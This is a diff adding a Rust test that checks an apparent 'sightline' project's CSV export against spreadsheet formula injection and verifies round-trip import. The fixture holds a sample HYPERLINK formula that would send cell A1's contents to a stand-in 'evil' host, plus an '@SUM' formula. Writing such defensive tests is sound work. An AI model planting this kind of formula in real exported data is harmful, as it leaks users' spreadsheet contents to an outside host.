@@ -213,3 +213,25 @@ fn an_idea_dragged_into_the_matrix_and_undo() {
     let bp = h.state().doc.as_ref().expect("doc").blueprint();
     assert!(bp.annotation(AnnotationId(Uuid::parse_str(IDEA).expect("id"))).expect("idea").matrix.is_none(), "undo");
 }
+
+#[test]
+fn csv_cells_are_never_formulas_and_read_back_as_written() {
+    let mut v = sample();
+    v["steps"][0]["title"] = json!("=HYPERLINK(\"http://evil/?\"&A1,\"klik\")");
+    v["annotations"][0]["text"] = json!("@SUM(1+1)");
+    let bp = load(&v);
+    let csv = String::from_utf8(sightline::export::to_csv(&bp).expect("csv")).expect("utf-8");
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("'@SUM(1+1)"), "{csv}");
+    assert!(!csv.lines().any(|l| l.split(',').any(|c| c.starts_with('=') || c.starts_with('@'))));
+    let back = sightline::import::import(
+        csv.as_bytes(),
+        sightline::import::Format::Csv,
+        &sightline::import::Options::default(),
+    )
+    .expect("import");
+    assert!(
+        back.blueprint.steps().any(|s| s.title == "=HYPERLINK(\"http://evil/?\"&A1,\"klik\")"),
+        "read back as written"
+    );
+}
